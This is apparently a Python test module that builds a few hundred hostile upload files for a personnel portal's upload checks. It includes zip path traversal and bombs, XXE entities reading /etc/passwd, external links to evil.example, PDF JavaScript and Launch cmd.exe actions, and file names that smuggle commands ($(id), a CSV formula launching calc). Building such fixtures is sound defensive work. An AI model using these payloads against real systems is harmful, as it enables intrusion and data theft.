"""Hostile files in every kind that the portal takes, made by applying each trick to each kind."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from personnel_portal.uploads.kinds import ATTACHMENTS, Kind
from tests.hostile import COMPOUND, EXECUTABLE
from tests.uploads.making import ODS, ODT, docx, odf, pdf, picture, zipped

OFFICE = (Kind.DOCX, Kind.XLSX, Kind.ODT, Kind.ODS)


@dataclass(frozen=True, slots=True)
class Trick:
    """A file: its name, its bytes, and whether it may be kept, when it is harmless for all its looks."""

    name: str
    build: Callable[[], bytes]
    may_be_kept: bool = False


@cache
def good(kind: Kind) -> bytes:
    """Return a small good file of a kind."""
    match kind:
        case Kind.PDF:
            return pdf()
        case Kind.DOCX:
            return docx()
        case Kind.XLSX:
            return _xlsx()
        case Kind.ODT:
            return odf()
        case Kind.ODS:
            return odf(mimetype=ODS, body="<table:table/>")
        case Kind.JPG:
            return picture("JPEG")
        case Kind.PNG:
            return picture("PNG")
        case Kind.CSV:
            return "姓名,時數\n".encode()


def _xlsx() -> bytes:
    import openpyxl

    buffer = io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "實績"  # type: ignore[index]  # a new workbook has a sheet
    book.save(buffer)
    return buffer.getvalue()


def tricks() -> Iterator[Trick]:
    """Yield every file, a few hundred."""
    for kind in sorted(ATTACHMENTS):
        yield from _named_as_another(kind)
        yield from _cut_and_glued(kind)
    for kind in OFFICE:
        yield from _archives(kind)
        yield from _entities(kind)
        yield from _parts(kind)
    yield from _pdfs()
    yield from _pictures()
    yield from _names()


def _named_as_another(kind: Kind) -> Iterator[Trick]:
    for other in ("pdf", "docx", "xlsx", "odt", "ods", "jpg", "png", "exe", "html", "svg"):
        if other not in kind.extensions:
            yield Trick(f"內容是{kind}.{other}", lambda: good(kind))


def _cut_and_glued(kind: Kind) -> Iterator[Trick]:
    content = good(kind)
    for part in (1, 2, 3):
        yield Trick(f"截斷{part}.{kind}", lambda part=part: content[: len(content) * part // 4])  # type: ignore[misc]  # a default of its own
    for what, glued in {
        "程式": EXECUTABLE,
        "壓縮檔": zipped({"a.html": "<script>alert(1)</script>"}),
        "網頁": b"<html><script>alert(1)</script></html>" * 40,
        "複合檔": COMPOUND,
    }.items():
        yield Trick(f"接{what}.{kind}", lambda glued=glued: content + glued)  # type: ignore[misc]  # as above
        yield Trick(f"{what}在前.{kind}", lambda glued=glued: glued + content)  # type: ignore[misc]  # as above
    yield Trick(f"全零.{kind}", lambda: bytes(len(content)))
    yield Trick(f"首字節.{kind}", lambda: content[:1])


def _with(kind: Kind, entries: list[tuple[zipfile.ZipInfo | str, bytes]], **changed: bytes) -> bytes:
    """Return the good file with further entries, and with some parts changed."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(good(kind))) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            target.writestr(info, changed.get(info.filename, source.read(info)), compress_type=info.compress_type)
        for entry, content in entries:
            target.writestr(entry, content)
    return buffer.getvalue()


PATHS = (
    "../../etc/cron.d/x",
    "word/../../x",
    "/etc/passwd",
    "//server/share/x",
    "C:/Windows/x",
    "..\\..\\x",
    "a/./../../x",
    "x" * 300 + ".xml",
    "word/\u202egnp.exe",
    "a" + "/a" * 200,
)


def _archives(kind: Kind) -> Iterator[Trick]:
    for number, path in enumerate(PATHS):
        odd = max(map(len, path.split("/"))) > 255 or path.count("/") > 100  # no way out, only no name of ours
        yield Trick(f"路徑{number}.{kind}", lambda path=path: _with(kind, [(path, b"<x/>")]), may_be_kept=odd)  # type: ignore[misc]  # as above
    for what, mode in {"連結": 0o120777, "裝置": 0o020666, "管線": 0o010666}.items():
        info = zipfile.ZipInfo("word/link")
        info.create_system, info.external_attr = 3, mode << 16
        yield Trick(f"{what}.{kind}", lambda info=info: _with(kind, [(info, b"/etc/passwd")]))  # type: ignore[misc]  # as above
    yield Trick(f"炸彈.{kind}", lambda: _with(kind, [("media/a.bin", bytes(60_000_000))]))
    yield Trick(f"多層.{kind}", lambda: _with(kind, [("media/a.zip", zipped({"b.zip": zipped({"c": "c"})}))]))
    yield Trick(f"夾程式.{kind}", lambda: _with(kind, [("media/a.png", EXECUTABLE)]))
    yield Trick(f"夾複合檔.{kind}", lambda: _with(kind, [("media/a.png", COMPOUND)]))
    yield Trick(f"多檔.{kind}", lambda: _with(kind, [(f"media/{number}", b"") for number in range(3_200)]))
    yield Trick(f"夾簡報.{kind}", lambda: _with(kind, [("media/b.bin", good(Kind.DOCX))]))


ENTITIES = {
    "笑": '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>',
    "檔": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "網": '<!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd">',
    "參數": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://127.0.0.1:1/x"> %a;]>',
}


def _entities(kind: Kind) -> Iterator[Trick]:
    for what, prolog in ENTITIES.items():
        for encoding in ("utf-8", "utf-16"):
            part = f'<?xml version="1.0" encoding="{encoding}"?>{prolog}<x>&a;</x>'.encode(encoding)
            yield Trick(f"實體{what}{encoding}.{kind}", lambda part=part: _with(kind, [("custom/item.xml", part)]))  # type: ignore[misc]  # as above


def _parts(kind: Kind) -> Iterator[Trick]:
    links = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="e" '
        'Type="{}/{}" Target="{}" TargetMode="External"/></Relationships>'
    )
    if kind in (Kind.DOCX, Kind.XLSX):
        for number, (type_, target) in enumerate(
            [
                ("attachedTemplate", "https://evil.example/t.dotm"),
                ("externalLinkPath", "https://evil.example/b.xlsx"),
                ("oleObject", "file:///c:/x.bin"),
                ("image", "\\\\10.0.0.1\\a.png"),
                ("frame", "http://evil.example/"),
                ("hyperlink", "javascript:alert(1)"),
            ]
        ):
            part = rels.format(links, type_, target).encode()
            yield Trick(f"外連{number}.{kind}", lambda part=part: _with(kind, [("x/_rels/y.xml.rels", part)]))  # type: ignore[misc]  # as above
        for path in ("word/vbaProject.bin", "xl/vbaProject.bin", "xl/macrosheets/a.xml", "word/activeX/a.xml"):
            yield Trick(f"{path.replace('/', '-')}.{kind}", lambda path=path: _with(kind, [(path, COMPOUND)]))  # type: ignore[misc]  # as above
    else:
        for path in ("Basic/Standard/M.xml", "Scripts/python/m.py", "Object 1/content.xml", "Object 2"):
            yield Trick(f"{path.replace('/', '-')}.{kind}", lambda path=path: _with(kind, [(path, COMPOUND)]))  # type: ignore[misc]  # as above
        mimetype = ODS if kind == Kind.ODS else ODT
        for number, body in enumerate(
            [
                '<draw:image xlink:href="http://127.0.0.1:1/a.png"/>',
                '<draw:object xlink:href="file:///etc/passwd"/>',
                '<text:section><text:section-source xlink:href="http://evil.example/a.odt"/></text:section>',
                '<table:table><table:table-source xlink:href="http://evil.example/a.ods"/></table:table>',
                '<script:event-listener xlink:href="vnd.sun.star.script:M.m"/>',
                "<office:dde-source/>",
                "<draw:applet/>",
                '<text:a xlink:href="vnd.sun.star.script:x"/>',
            ]
        ):
            yield Trick(f"外連{number}.{kind}", lambda body=body: odf(body=body, mimetype=mimetype))  # type: ignore[misc]  # as above


def _pdfs() -> Iterator[Trick]:
    actions: dict[str, dict[str, Any]] = {
        "JavaScript": {"JS": String("app.alert(1)")},
        "Launch": {"F": String("cmd.exe")},
        "SubmitForm": {"F": String("http://evil.example")},
        "ImportData": {"F": String("/etc/passwd")},
        "GoToE": {"T": Dictionary(R=Name.C)},
        "Rendition": {"OP": 0},
    }
    for kind, keys in actions.items():
        action = Dictionary(S=Name("/" + kind), **keys)
        places: dict[str, Callable[[pikepdf.Pdf], None]] = {
            "開啟": lambda document, action=action: setattr(document.Root, "OpenAction", action),  # type: ignore[misc]  # as above
            "註記": lambda document, action=action: _annotate(document, A=action),  # type: ignore[misc]  # as above
            "頁面": lambda document, action=action: setattr(document.pages[0].obj, "AA", Dictionary(O=action)),  # type: ignore[misc]  # as above
            "接續": lambda document, action=action: setattr(  # type: ignore[misc]  # as above
                document.Root, "OpenAction", Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=action)
            ),
            "物件流": lambda document, action=action: setattr(document.Root, "Hidden", document.make_indirect(action)),  # type: ignore[misc]  # as above
        }
        for where, change in places.items():
            saving = {"object_stream_mode": pikepdf.ObjectStreamMode.generate} if where == "物件流" else {}
            yield Trick(f"{kind}{where}.pdf", lambda change=change, saving=saving: pdf(change, **saving))  # type: ignore[misc]  # as above
    for password in ({"user": "secret", "owner": "x"}, {"user": "密", "owner": "密"}):
        yield Trick("密碼.pdf", lambda password=password: pdf(None, encryption=pikepdf.Encryption(**password)))  # type: ignore[misc]  # as above
    for subtype in ("FileAttachment", "RichMedia", "Screen", "Movie", "Sound", "3D"):
        yield Trick(f"{subtype}.pdf", lambda subtype=subtype: pdf(lambda document: _annotate(document, subtype)))  # type: ignore[misc]  # as above


def _annotate(document: pikepdf.Pdf, subtype: str = "Link", **keys: Any) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=[0, 0, 9, 9], **keys)
    document.pages[0].Annots = Array([document.make_indirect(note)])


def _pictures() -> Iterator[Trick]:
    for width, height in ((60_000, 60_000), (2**31 - 1, 1), (0, 0), (1, 2**31 - 1)):
        header = b"IHDR" + struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
        png = (
            b"\x89PNG\r\n\x1a\n"
            + struct.pack(">L", 13)
            + header
            + struct.pack(">L", zlib.crc32(header))
            + good(Kind.PNG)[33:]
        )
        yield Trick(f"{width}×{height}.png", lambda png=png: png)  # type: ignore[misc]  # as above
        jpg = good(Kind.JPG)
        at = jpg.index(b"\xff\xc0") + 5
        size = struct.pack(">HH", min(height, 65_535), min(width, 65_535))
        yield Trick(f"{width}×{height}.jpg", lambda jpg=jpg, at=at, size=size: jpg[:at] + size + jpg[at + 4 :])  # type: ignore[misc]  # as above
    for kind in ("GIF", "BMP", "TIFF", "WEBP", "ICO"):
        yield Trick(f"其實是{kind}.png", lambda kind=kind: picture(kind))  # type: ignore[misc]  # as above
    yield Trick("向量.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')


NAMES = (
    "../../etc/passwd.pdf",
    "..\\..\\boot.pdf",
    "C:\\Windows\\x.pdf",
    "/etc/passwd",
    "a\x00.exe.pdf",
    "\u202efdp.exe.pdf",
    "長" * 5000 + ".pdf",
    "con.pdf",
    ".htaccess",
    "a\r\nSet-Cookie: x=1.pdf",
    '";x="y.pdf',
    "<script>alert(1)</script>.pdf",
    "=cmd|' /c calc'!A0.pdf",
    "",
    " ",
    ".",
    "..",
    "a.pdf.",
    "a.pdf:stream.pdf",
    "\ud800.pdf",
    "%2e%2e%2f.pdf",
    "$(id).pdf",
    "`id`.pdf",
    "-rf.pdf",
    "{{7*7}}.pdf",
)


def _names() -> Iterator[Trick]:
    for name in NAMES:
        yield Trick(name, lambda: good(Kind.PDF), may_be_kept=True)
